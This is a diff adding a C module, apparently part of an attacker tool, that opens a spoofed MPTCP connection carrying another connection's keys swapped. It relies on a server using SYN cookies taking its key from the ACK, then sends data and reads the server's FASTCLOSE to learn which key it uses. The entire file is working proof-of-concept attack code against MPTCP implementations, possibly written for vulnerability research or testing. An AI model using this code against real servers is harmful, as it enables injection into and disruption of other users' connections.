@@ -1,0 +1,99 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * A connection of the attacker's own, to which they give the MPTCP keys of another one. With
+ * SYN cookies the server takes its own key from the ACK too. What it then sends on this
+ * connection is masked as on the other one.
+ */
+#include <stdio.h>
+#include <string.h>
+
+#include "attacker.h"
+
+#define CAPABLE_SYN_LEN 4
+#define VERSION 1
+#define USE_SHA256 1
+
+uint64_t told_fastclose;
+
+static struct connection named;
+static struct attempt opened;
+
+static uint8_t *put_capable(uint8_t *at, uint8_t len)
+{
+	*at++ = MPTCP_KIND;
+	*at++ = len;
+	*at++ = MP_CAPABLE << 4 | VERSION;
+	*at++ = USE_SHA256;
+	return at;
+}
+
+static bool take_answer(void)
+{
+	int64_t until = now_ms() + patience_ms;
+	struct segment segment;
+	struct frame frame;
+
+	while (next_segment(&opened, until, &frame, &segment)) {
+		if (!segment.tcp->syn || !find_mptcp(&segment, MP_CAPABLE))
+			continue;
+		opened.seq++;
+		opened.peer_seq = segment.seq + 1;
+		return true;
+	}
+	return false;
+}
+
+/*
+ * As an initiator with the key of the other connection's server, who says that the
+ * responder has that of its client. port=N of the server's.
+ */
+bool cmd_open_named(void)
+{
+	const struct connection *target = arg_connection("conn");
+	struct plan syn = { .flags = TH_SYN, .options_len = CAPABLE_SYN_LEN };
+	struct plan ack = { .flags = TH_ACK, .options_len = CAPABLE_ACK_LEN };
+	bool answered;
+
+	if (!target)
+		return false;
+	start_attempt(&opened, target, target, 0);
+	opened.to.port = htons((uint16_t)arg_number("to_port", "0"));
+	named.keys[CLIENT] = target->keys[SERVER];
+	named.keys[SERVER] = target->keys[CLIENT];
+
+	put_capable(syn.options, CAPABLE_SYN_LEN);
+	send_attempt(&opened, &syn);
+	answered = take_answer();
+	printf(" syn=%s", answers[answered ? ANSWERED : SILENT]);
+	if (!answered)
+		return true;
+	put64(put64(put_capable(ack.options, CAPABLE_ACK_LEN),
+		    named.keys[CLIENT]),
+	      named.keys[SERVER]);
+	send_attempt(&opened, &ack);
+	return true;
+}
+
+/* Some bytes on it, and then ms=N for the server to end it with FASTCLOSE */
+bool cmd_hear_named(void)
+{
+	int64_t until = now_ms() + arg_number("ms", "1000");
+	struct segment segment;
+	const uint8_t *option;
+	struct frame frame;
+	bool told = false;
+
+	printf(" data=%s", answers[send_data(&opened, &named, 100, 0)]);
+	fflush(stdout);
+	while (!told && next_segment(&opened, until, &frame, &segment)) {
+		option = find_mptcp(&segment, MP_FASTCLOSE);
+		if (!option)
+			continue;
+		told_fastclose = get64(option + 4);
+		told = true;
+	}
+	printf(" fastclose=%s", !told				     ? "none" :
+				told_fastclose == named.keys[CLIENT] ? "plain" :
+								       "other");
+	return true;
+}
